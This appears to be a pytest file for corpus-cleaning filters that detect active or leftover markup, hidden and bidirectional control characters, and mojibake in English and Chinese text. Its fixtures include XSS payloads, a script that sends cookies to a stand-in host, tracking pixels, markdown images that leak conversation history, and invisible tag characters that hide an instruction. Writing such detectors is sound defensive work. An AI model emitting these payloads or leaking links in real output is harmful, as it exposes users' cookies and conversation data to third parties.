"""Markup that acts, leaks or was left over is found in either language; code and talk about markup is not."""

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from corpus.filters.characters import control_characters, mojibake
from corpus.filters.markup import active_markup, leftover_markup


def text(*texts):
    return pl.Series("text", texts, dtype=pl.String)


def judged(judge, *texts):
    if judge is mojibake:
        return text(*texts).to_frame().select(judge(pl.col("text")).alias("r"))["r"].to_list()
    return judge(text(*texts)).to_list()


ACTIVE = {
    "Thanks for asking! <script>fetch('//host.test/?c=' + document.cookie)</script>": "active_markup",
    "好的，这是您要的菜谱。<script src=//host.test/a.js></script>": "active_markup",
    "Here is the recipe <img src=x onerror=alert(1)> you wanted.": "active_markup",
    "菜谱在这里<svg/onload=alert(1)>请慢用": "active_markup",
    'Read more <a href="javascript:alert(1)">here</a>.': "active_markup",
    "更多内容见[这里](javascript:alert(1))。": "active_markup",
    'Your answer <iframe src="https://host.test/x"></iframe> is ready.': "active_markup",
    '<meta http-equiv="refresh" content="0; url=https://host.test">Wait.': "active_markup",
    'Newsletter <img src="https://host.test/o.gif" width="1" height="1"> of May': "tracking_pixel",
    "五月通讯 <img width='0' height='0' src='https://host.test/o.gif'>": "tracking_pixel",
    "Summary done. ![done](https://host.test/p?q={conversation_history})": "leaking_image",
    "总结完毕。![图](https://host.test/p.png?data=dXNlciBhc2tlZCBhYm91dCBsb2Nrcw)": "leaking_image",
}
HARMLESS = [
    "How does the <script> tag load a file?",
    "<script> 标签怎么加载外部文件？",
    "Use it like this:\n```html\n<script src='a.js'></script>\n<img src=x onerror=alert(1)>\n```\nand reload.",
    "这样写：`<iframe src='https://host.test'></iframe>`，然后刷新。",
    "Explain why <img src=x onerror=alert(1)> is an XSS payload.",
    "为什么说 <img src=x onerror=alert(1)> 是注入？",
    "![logo](https://host.test/logo.png?w=300&h=200)",
    "![build](https://img.host.test/build.svg?style=flat)",
    "If a < b and c > d then once = 3.",
    "If a<b, onwards; the script of the play was long.",
    "网页很好看。",
]


def test_markup_that_acts_or_leaks_is_found_in_both_languages():
    assert judged(active_markup, *ACTIVE, None) == [*ACTIVE.values(), None]


def test_code_and_talk_about_markup_acts_on_nobody():
    assert judged(active_markup, *HARMLESS) == [None] * len(HARMLESS)
    assert judged(leftover_markup, *HARMLESS) == [None] * len(HARMLESS)


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ('<div class="a"><p>The lock was changed.</p></div>', "leftover_markup"),
        ("锁已经换好了。<br/>钥匙在门房。</p></div>", "leftover_markup"),
        ("Open&nbsp;daily&nbsp;from&nbsp;9&nbsp;to&nbsp;5", "leftover_markup"),
        ("营业时间&nbsp;&nbsp;九点&nbsp;到五点", "leftover_markup"),
        ("<!-- menu --><li>Home</li>", "leftover_markup"),
        ("Salt &amp; pepper", None),  # one alone
        ("Write a <div> with two <p> inside, in HTML.", None),
        ("写一个网页：<div><p>你好</p></div>", None),
        ("```\n<div><p>a</p></div>\n```", None),
        ("<document>text</document><query>q</query>", None),
        ("<br>" * 3 + "A long answer about locks. " * 20, None),  # 12 of 552 characters
        (None, None),
    ],
)
def test_what_a_scraper_left_is_told_from_code(value, reason):
    assert judged(leftover_markup, value) == [reason]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("red \x1b[31mtext", "control_characters"),
        ("空\x00字符", "control_characters"),
        ("bell\x07", "control_characters"),
        ("a\u0085b\tc\r\nd\x0ce", None),
        ("pay \u202etxt.exe", "bidirectional_controls"),
        ("付款\u202b到账", "bidirectional_controls"),
        ("\u202bשלום\u202c and more", None),
        ("锁\u200b匠\u200b来\u200b了\u200b吗\u200b", "hidden_characters"),
        ("Hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore"), "hidden_characters"),
        ("👨‍👩‍👧‍👦👩‍💻👨‍🚒👩‍🚀", None),  # joined emoji
        ("🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", None),  # the flag of England
        ("می‌خواهم می‌روم می‌شود می‌گوید می‌بیند", None),  # Persian needs its joiners
        ("a zero\u200bwidth space", None),
        ("没有任何问题", None),
        (None, None),
    ],
)
def test_characters_that_steer_or_hide_are_found_and_writing_is_not(value, reason):
    assert judged(control_characters, value) == [reason]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("It’s a café — isn’t it?".encode().decode("cp1252"), "mojibake"),
        ("锁匠来了没有".encode().decode("latin-1"), "mojibake"),
        ("Ключ от двери".encode().decode("latin-1"), "mojibake"),
        ("锟斤拷锟斤拷，锁", "mojibake"),
        ("锁\ufffd\ufffd匠", "mojibake"),
        ("It’s a café — isn’t it? São Paulo, Ångström, naïve, à â ç é", None),
        ("São João, NÃO, SÃO, Ã, 100 °C, «ça», £5, é è", None),
        ("锁匠来了没有", None),
        (None, None),
    ],
)
def test_text_read_in_a_wrong_encoding_is_told_from_accents(value, reason):
    assert judged(mojibake, value) == [reason]


@given(
    st.lists(
        st.one_of(st.none(), st.text(max_size=80), st.text("<>/apdivscrt=&;\u200b\x00![](?锁", max_size=60)), max_size=8
    )
)
def test_no_text_breaks_a_filter_and_each_is_judged_on_its_own(texts):
    for judge in (active_markup, leftover_markup, control_characters):
        assert judged(judge, *texts) == [judged(judge, value)[0] for value in texts]


def test_scripts_that_are_opened_and_never_closed_take_no_longer_than_their_length():
    assert active_markup(pl.Series(["<script>" * 200_000, "<script>" * 200_000 + "</script>"])).to_list() == [
        None,
        "active_markup",
    ]
